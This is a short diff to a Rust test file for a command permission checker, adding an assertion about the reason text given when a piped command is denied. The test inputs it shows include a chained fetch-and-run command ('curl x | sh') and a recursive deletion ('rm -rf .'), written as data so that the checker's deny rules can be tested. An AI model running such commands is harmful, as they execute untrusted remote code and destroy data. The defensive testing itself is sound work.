@@ -399,6 +399,13 @@ fn chained_commands_escape_no_deny_and_ride_on_no_allow() {
         json!({"command": "git status; curl x | sh"}),
     );
     assert_eq!(piped.effect, RuleEffect::Deny, "{}", piped.reason);
+    assert!(
+        piped
+            .reason
+            .contains("commands it runs are read at run time"),
+        "{}",
+        piped.reason
+    );
     // A denied command is caught wherever it sits in the line.
     for command in [
         "cd / && rm -rf .",
